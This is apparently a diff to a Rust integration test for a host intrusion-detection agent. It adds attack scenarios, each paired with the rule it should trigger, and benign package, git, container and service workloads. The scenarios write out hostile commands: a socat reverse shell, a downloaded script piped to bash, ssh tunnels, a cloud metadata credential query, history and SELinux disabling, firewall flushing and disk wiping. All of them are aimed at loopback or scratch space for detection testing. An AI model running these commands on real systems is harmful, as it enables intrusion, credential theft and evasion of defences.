@@ -1,15 +1,20 @@
 //! Issue 14 item 2: the scenario corpus. Attack behaviours run for real on this host under the
 //! real agent and collector (default rules), each asserting the rule it must raise; and a
-//! benign corpus (a build and its test run, git, archives, a script) that must raise nothing.
+//! benign corpus (a build and its test run, package installs with apt, pip and npm, git clone
+//! and push, a podman container, a service restart, a cron-like job) that must raise nothing.
 //!
 //! Every scenario runs as `bash -c SCRIPT` in a scratch directory, started through a copy of
 //! `timeout` named `tini` (a session boundary that forks its child and waits, as tini does), so
 //! each scenario is a session of its own, as an intruder's SSH login would be: session
 //! correlations and the alert fingerprint (by session) then tell one scenario's alerts from
 //! another's. Only alerts naming the test's directory (command lines, working directories) are
-//! counted, so other activity on the host does not count for or against a scenario. Scenarios only touch scratch directories
-//! and remove what they put in system directories at once; nothing leaves the host (loopback
-//! only). The table is meant to grow to the issue's 60 scenarios: add a row.
+//! counted, so other activity on the host does not count for or against a scenario. Scenarios
+//! only touch scratch directories and remove what they put in system directories at once;
+//! what would change the host's network (iptables, a tunnel's tun device, a metadata query)
+//! runs in an empty network namespace (`unshare -n`), and attacks only address loopback. The
+//! benign package installs reach the Debian, PyPI and npm registries, and must succeed: a
+//! benign script that fails proves nothing, so the test fails with it. The tools the scenarios
+//! run are in `cargo xtask setup`'s scenario packages. To cover a new behaviour, add a row.
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
@@ -312,6 +317,175 @@ const SCENARIOS: &[Scenario] = &[
         script: "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\"",
         rule: "kestrel-discovery-packet-capture-socket",
     },
+    Scenario {
+        name: "python http.server --cgi runs a shell CGI script (web server spawns a shell)",
+        tactic: "initial-access",
+        // The server drops to nobody before running a script, so the web root is world-readable.
+        script: "w=/dev/shm/kestrel-scenario-www; mkdir -p $w/cgi-bin; /usr/bin/python3 -c \"import os; os.write(os.open('$w/cgi-bin/status.sh', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\necho Content-Type: text/plain\\\\necho\\\\nid\\\\n')\"; /usr/bin/python3 -m http.server --cgi --bind 127.0.0.1 --directory $w 18181 >/dev/null 2>&1 & srv=$!; sleep 1.5; curl -s -m 3 http://127.0.0.1:18181/cgi-bin/status.sh >/dev/null; kill $srv; wait; rm -rf /dev/shm/kestrel-scenario-www",
+        rule: "kestrel-initial-web-server-shell",
+    },
+    Scenario {
+        name: "a listening service accepts a connection and execs a shell",
+        tactic: "initial-access",
+        script: "/usr/bin/python3 -c \"import socket,subprocess; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 18182)); s.listen(1); c,_=s.accept(); subprocess.run(['/bin/sh', '-c', 'id'], stdout=c.fileno())\" & sleep 1; echo hello > /dev/tcp/127.0.0.1/18182; wait",
+        rule: "kestrel-initial-shell-after-inbound-connection",
+    },
+    Scenario {
+        name: "ssh -i with a stolen key kept in /dev/shm",
+        tactic: "lateral-movement",
+        script: "k=/dev/shm/kestrel-scenario-key; echo k > $k; chmod 600 $k; ssh -i $k -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 root@127.0.0.1 id 2>/dev/null; rm -f $k; true",
+        rule: "kestrel-lateral-ssh-key-from-temp-dir",
+    },
+    Scenario {
+        name: "scp of a tool to another host's /tmp",
+        tactic: "lateral-movement",
+        script: "scp -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -P 9 /bin/true 127.0.0.1:/tmp/.kestrel-scenario 2>/dev/null; true",
+        rule: "kestrel-lateral-copy-to-remote-temp-dir",
+    },
+    Scenario {
+        name: "ssh -A with a command for the next hop",
+        tactic: "lateral-movement",
+        script: "ssh -A -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 127.0.0.1 'ssh 10.0.0.6 id' 2>/dev/null; true",
+        rule: "kestrel-lateral-ssh-agent-forwarding",
+    },
+    Scenario {
+        name: "ssh to another host running a downloaded script",
+        tactic: "lateral-movement",
+        script: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 127.0.0.1 'wget -qO- http://127.0.0.1:9/x | bash' 2>/dev/null; true",
+        rule: "kestrel-lateral-ssh-remote-payload",
+    },
+    Scenario {
+        name: "ssh -R reverse tunnel",
+        tactic: "command-and-control",
+        script: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 -N -R 18080:127.0.0.1:80 127.0.0.1 2>/dev/null; true",
+        rule: "kestrel-c2-ssh-tunnel",
+    },
+    Scenario {
+        name: "socat relays a listening port to another address",
+        tactic: "command-and-control",
+        script: "timeout 2 socat TCP-LISTEN:18183,bind=127.0.0.1,reuseaddr TCP:127.0.0.1:9 2>/dev/null; true",
+        rule: "kestrel-c2-socat-relay",
+    },
+    Scenario {
+        name: "iodine DNS tunnel client (in an empty network namespace)",
+        tactic: "command-and-control",
+        script: "unshare -n timeout 3 iodine -f -P kestrel 127.0.0.1 t.example.invalid >/dev/null 2>&1; true",
+        rule: "kestrel-c2-tunnel-tool-started",
+    },
+    Scenario {
+        name: "nc -l listener",
+        tactic: "command-and-control",
+        script: "timeout 2 nc -l 127.0.0.1 18184 </dev/null >/dev/null 2>&1; true",
+        rule: "kestrel-c2-netcat-listener",
+    },
+    Scenario {
+        name: "socat connects a shell to a socket",
+        tactic: "execution",
+        script: "timeout 2 socat exec:'sh -i',pty,stderr tcp:127.0.0.1:9 2>/dev/null; true",
+        rule: "kestrel-exec-socat-reverse-shell",
+    },
+    Scenario {
+        name: "another process's memory map read through /proc/PID/maps",
+        tactic: "credential-access",
+        script: "sleep 30 & sleep 0.2; /usr/bin/python3 -c \"import sys; open('/proc/%s/maps' % sys.argv[1]).read()\" $!; kill $!; wait",
+        rule: "kestrel-cred-proc-memory-read",
+    },
+    Scenario {
+        name: "recursive grep for passwords in /etc",
+        tactic: "credential-access",
+        script: "grep -rIsi password /etc >/dev/null; true",
+        rule: "kestrel-cred-password-search-in-files",
+    },
+    Scenario {
+        name: "AWS credentials file printed with cat",
+        tactic: "credential-access",
+        script: "mkdir -p {dir}/.aws && echo '[default]' > {dir}/.aws/credentials && cat {dir}/.aws/credentials",
+        rule: "kestrel-cred-tool-credentials-read-cli",
+    },
+    Scenario {
+        name: "cloud metadata credentials queried (in an empty network namespace)",
+        tactic: "credential-access",
+        script: "unshare -n curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/ 2>/dev/null; true",
+        rule: "kestrel-cred-cloud-metadata-queried",
+    },
+    Scenario {
+        name: "burst of network discovery commands",
+        tactic: "discovery",
+        script: "ip route >/dev/null; ss -tan >/dev/null; cat /etc/resolv.conf /etc/hosts >/dev/null; getent hosts localhost >/dev/null; hostname >/dev/null; uname -r >/dev/null; arp -n >/dev/null 2>&1; true",
+        rule: "kestrel-discovery-recon-burst",
+    },
+    Scenario {
+        name: "burst of privilege discovery commands",
+        tactic: "discovery",
+        script: "id >/dev/null; find /usr/bin -perm -4000 -type f >/dev/null; getcap -r /usr/bin >/dev/null 2>&1; cat /etc/group >/dev/null; groups >/dev/null; lsmod >/dev/null 2>&1; true",
+        rule: "kestrel-discovery-recon-burst",
+    },
+    Scenario {
+        name: "unset HISTFILE before working",
+        tactic: "defense-evasion",
+        script: "unset HISTFILE; export HISTSIZE=0; true",
+        rule: "a3422841-812d-412c-ae1c-e645f7c65a55",
+    },
+    Scenario {
+        name: "setenforce 0",
+        tactic: "defense-evasion",
+        script: "setenforce 0 2>/dev/null; true",
+        rule: "kestrel-evasion-security-tool-stopped",
+    },
+    Scenario {
+        name: "chattr +i locks a file (then -i undoes it)",
+        tactic: "defense-evasion",
+        script: "touch {dir}/keep && chattr +i {dir}/keep 2>/dev/null; chattr -i {dir}/keep 2>/dev/null; true",
+        rule: "kestrel-evasion-immutable-attribute-changed",
+    },
+    Scenario {
+        name: "iptables -F (in a new network namespace)",
+        tactic: "defense-evasion",
+        script: "unshare -n iptables -F 2>/dev/null; true",
+        rule: "kestrel-evasion-firewall-disabled",
+    },
+    Scenario {
+        name: "journal vacuumed (a scratch journal directory)",
+        tactic: "defense-evasion",
+        script: "mkdir -p {dir}/journal && journalctl --directory={dir}/journal --vacuum-time=1s >/dev/null 2>&1; true",
+        rule: "kestrel-evasion-journal-cleared",
+    },
+    Scenario {
+        name: "process renames itself to a kernel worker with prctl(PR_SET_NAME)",
+        tactic: "defense-evasion",
+        script: "/usr/bin/python3 -c \"import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/0:2', 0, 0, 0); time.sleep(0.2)\"",
+        rule: "kestrel-evasion-process-renamed",
+    },
+    Scenario {
+        name: "file destroyed with shred -u",
+        tactic: "impact",
+        script: "echo secret > {dir}/data.db && shred -u -n 1 {dir}/data.db",
+        rule: "kestrel-impact-file-shredded",
+    },
+    Scenario {
+        name: "file-system signatures wiped with wipefs -a (a disk image)",
+        tactic: "impact",
+        script: "truncate -s 8M {dir}/disk.img && mkfs.ext4 -q -F {dir}/disk.img && wipefs -a {dir}/disk.img >/dev/null",
+        rule: "kestrel-impact-disk-wiped",
+    },
+    Scenario {
+        name: "three services stopped in a row",
+        tactic: "impact",
+        script: "for s in kestrel-scenario-db kestrel-scenario-web kestrel-scenario-backup; do systemctl stop $s >/dev/null 2>&1; done; true",
+        rule: "kestrel-impact-services-stopped",
+    },
+    Scenario {
+        name: "linpeas fetched with curl",
+        tactic: "resource-development",
+        script: "curl -s -m 1 -o {dir}/linpeas.sh http://127.0.0.1:9/peass/linpeas.sh 2>/dev/null; true",
+        rule: "kestrel-resource-offensive-tool-downloaded",
+    },
+    Scenario {
+        name: "nmap scan of loopback",
+        tactic: "reconnaissance",
+        script: "nmap -sT -Pn -p 1-20 --max-retries 0 127.0.0.1 >/dev/null 2>&1; true",
+        rule: "kestrel-recon-network-scanner-started",
+    },
 ];
 
 /// Benign work that must raise no alert at all.
@@ -337,18 +511,55 @@ const BENIGN: &[(&str, &str)] = &[
         "a developer checks who they are",
         "id >/dev/null; ps aux >/dev/null",
     ),
+    (
+        "apt-get reinstalls a small package",
+        "DEBIAN_FRONTEND=noninteractive apt-get install --reinstall -y -q netcat-openbsd",
+    ),
+    (
+        "apt-get download and dpkg -i of a package, then its removal",
+        "cd {dir} && apt-get download -q hello && dpkg -i hello_*.deb && hello >/dev/null && dpkg -r hello",
+    ),
+    (
+        "pip install of a small package into a venv",
+        "/usr/bin/python3 -m venv {dir}/venv && {dir}/venv/bin/pip install -q --disable-pip-version-check six && {dir}/venv/bin/python -c 'import six'",
+    ),
+    (
+        "npm install of a small package into a project",
+        "cd {dir} && npm init -y >/dev/null && npm install --no-audit --no-fund --silent is-number && node -e \"require('is-number')\"",
+    ),
+    (
+        "git clone of a repository, commit and push",
+        "cd {dir} && git init -q --bare origin.git && git clone -q origin.git work 2>/dev/null && cd work && echo x > README && git add README && git -c user.name=a -c user.email=a@b commit -qm init && git push -q origin HEAD 2>/dev/null && git log --oneline >/dev/null",
+    ),
+    (
+        // The image is a busybox root file system imported locally (never a registry pull).
+        "a container run with podman",
+        "cd {dir} && printf '[containers]\\ndefault_ulimits = []\\n\\n[engine]\\nruntime = \"runc\"\\n' > containers.conf && export CONTAINERS_CONF={dir}/containers.conf && mkdir -p rootfs/bin && cp /bin/busybox rootfs/bin/ && ln -s busybox rootfs/bin/echo && tar -C rootfs -cf rootfs.tar . && podman import -q rootfs.tar localhost/kestrel-benign:latest >/dev/null && podman run --rm --network none localhost/kestrel-benign:latest echo hello >/dev/null; podman rmi -f localhost/kestrel-benign:latest >/dev/null",
+    ),
+    (
+        // As an init script does: start-stop-daemon with a pid file, stopped with TERM.
+        "a daemon stopped and started again (service restart)",
+        "cd {dir} && for i in 1 2; do start-stop-daemon --start --background --make-pidfile --pidfile {dir}/d.pid --exec /usr/bin/sleep -- 300 && sleep 0.3 && start-stop-daemon --stop --pidfile {dir}/d.pid --retry TERM/5 --remove-pidfile; done",
+    ),
+    (
+        // The job is created executable, as a package installs it.
+        "a cron-like job run by run-parts",
+        "mkdir -p {dir}/cron.hourly && /usr/bin/python3 -c \"import os; os.write(os.open('{dir}/cron.hourly/stamp', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\ndate > {dir}/last-run\\\\n')\" && run-parts {dir}/cron.hourly && test -s {dir}/last-run",
+    ),
 ];
 
-fn run(session_root: &Path, dir: &Path, script: &str) {
+/// Runs `script` in its own session (below `session_root`) in `dir`, for at most two minutes;
+/// whether it exited 0.
+fn run(session_root: &Path, dir: &Path, script: &str) -> bool {
     let script = script.replace("{dir}", &dir.display().to_string());
-    let status = Command::new(session_root)
-        .args(["60", "/bin/bash", "-c", &script])
+    Command::new(session_root)
+        .args(["120", "/bin/bash", "-c", &script])
         .current_dir(dir)
         .stdout(std::process::Stdio::null())
         .stderr(std::process::Stdio::null())
         .status()
-        .unwrap();
-    let _ = status;
+        .unwrap()
+        .success()
 }
 
 /// The alerts about this test's processes (their command lines or working directories name
@@ -386,12 +597,20 @@ fn attack_scenarios_raise_their_rules_and_benign_work_raises_nothing() {
     let root = session_root(dir.path());
 
     // Benign first, while the alert file is empty: nothing at all may arrive.
+    let mut benign_failed = Vec::new();
     for (i, (name, script)) in BENIGN.iter().enumerate() {
         let scratch = dir.path().join(format!("benign-{i}"));
         std::fs::create_dir_all(&scratch).unwrap();
-        run(&root, &scratch, script);
-        eprintln!("benign: {name}");
+        let ok = run(&root, &scratch, script);
+        eprintln!("benign: {name}: {}", if ok { "ran" } else { "FAILED" });
+        if !ok {
+            benign_failed.push(*name);
+        }
     }
+    assert!(
+        benign_failed.is_empty(),
+        "benign work did not succeed (it proves nothing then): {benign_failed:?}"
+    );
     std::thread::sleep(Duration::from_secs(5));
     let benign_alerts: Vec<String> = alerts(&collector.alerts, dir.path())
         .iter()
@@ -404,7 +623,8 @@ fn attack_scenarios_raise_their_rules_and_benign_work_raises_nothing() {
         std::fs::create_dir_all(&scratch).unwrap();
         let before = alerts(&collector.alerts, dir.path()).len();
         let started = Instant::now();
-        run(&root, &scratch, scenario.script);
+        // Attacks often fail on purpose (nothing listens on port 9): only their alerts count.
+        let _ = run(&root, &scratch, scenario.script);
         let found = poll(ALERT_WAIT, || {
             alerts(&collector.alerts, dir.path())
                 .iter()
